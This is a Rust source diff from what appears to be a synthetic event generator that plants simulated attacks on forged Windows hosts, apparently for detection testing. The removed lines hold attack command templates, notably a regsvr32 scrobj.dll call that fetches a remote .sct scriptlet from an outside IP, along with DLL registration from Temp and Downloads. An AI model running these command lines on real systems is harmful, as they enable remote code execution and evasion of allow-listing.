@@ -4,84 +4,10 @@
 //! something other than DNS. That an image load counts as a start is why nothing is loaded after the first connection.
 
 use super::host::{ForgedEventData, ForgedHost, ForgedProcess, Remote};
-use super::programs::{Account, Program, Talks};
+use super::inventory::INVENTORY;
 use super::random::Random;
 use std::collections::{BTreeMap, VecDeque};
 use std::rc::Rc;
-
-const fn utility(
-    image: &'static str,
-    description: &'static str,
-    original: &'static str,
-    account: Account,
-    lines: &'static [&'static str],
-) -> Program {
-    Program {
-        image,
-        version: "10.0.19041.3636 (WinBuild.160101.0800)",
-        description,
-        product: "Microsoft® Windows® Operating System",
-        company: "Microsoft Corporation",
-        original,
-        lines,
-        account,
-        talks: Talks::Anywhere,
-        parents: &[],
-        weight: 0,
-    }
-}
-
-/// The utilities as an attacker, or an administrator, starts them.
-static UTILITIES: &[Program] = &[
-    utility(
-        r"C:\Windows\System32\regsvr32.exe",
-        "Microsoft(C) Register Server",
-        "REGSVR32.EXE",
-        Account::User,
-        &[
-            "regsvr32.exe /s /n /u /i:http://104.21.36.{byte}/{word}.sct scrobj.dll",
-            r"regsvr32 /s C:\Users\{user}\AppData\Local\Temp\{word}.ocx",
-        ],
-    ),
-    utility(
-        r"C:\Windows\SysWOW64\REGSVR32.EXE",
-        "Microsoft(C) Register Server",
-        "REGSVR32.EXE",
-        Account::User,
-        &[r#""C:\Windows\SysWOW64\REGSVR32.EXE" /s C:\ProgramData\{word}{n}.dat"#],
-    ),
-    utility(
-        r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe",
-        "Microsoft .NET Assembly Registration Utility",
-        "RegAsm.exe",
-        Account::User,
-        &[r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\RegAsm.exe /U C:\Users\{user}\Downloads\{word}.dll"],
-    ),
-    utility(
-        r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegSvcs.exe",
-        "Microsoft .NET Services Installation Utility",
-        "RegSvcs.exe",
-        Account::User,
-        &[r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\RegSvcs.exe"],
-    ),
-];
-
-static INSTALLER: Program = utility(
-    r"C:\Windows\System32\msiexec.exe",
-    "Windows® installer",
-    "msiexec.exe",
-    Account::System,
-    &[r"C:\Windows\system32\msiexec.exe /V", r"C:\Windows\System32\MsiExec.exe -Embedding {hex}{hex} E Global\MSI0000"],
-);
-
-/// The utility as an installation starts it, with System's rights.
-static INSTALLED: Program = utility(
-    r"C:\Windows\System32\regsvr32.exe",
-    "Microsoft(C) Register Server",
-    "REGSVR32.EXE",
-    Account::System,
-    &[r#""C:\Windows\System32\regsvr32.exe" /s "C:\Program Files\{word}\{word}.dll""#],
-);
 
 /// A host with attacks, and what looks like them, planted among its ordinary work.
 pub(super) struct PlantedHost {
@@ -200,9 +126,9 @@ impl Plant {
             }
             // An installation that runs as System.
             1 => {
-                let installer = host.process(&INSTALLER);
+                let installer = host.process(&INVENTORY.installer);
                 let services = host.running_named(&["services.exe"]);
-                let process = host.process(&INSTALLED);
+                let process = host.process(&INVENTORY.installed);
                 let mut script = Script::of(Rc::clone(&installer)).then(AttackAction::Start(services));
                 script.process = process;
                 script = script
@@ -255,7 +181,7 @@ impl Plant {
 
 /// A utility that the user starts from something that runs, and its parent.
 fn by_hand(host: &mut ForgedHost) -> (Script, Option<Rc<ForgedProcess>>) {
-    let program = host.random.pick(UTILITIES);
+    let program = host.random.pick(&INVENTORY.utilities);
     let parent = host.running_named(&["cmd.exe", "powershell.exe", "explorer.exe", "WINWORD.EXE"]);
     (Script::of(host.process(program)), parent)
 }
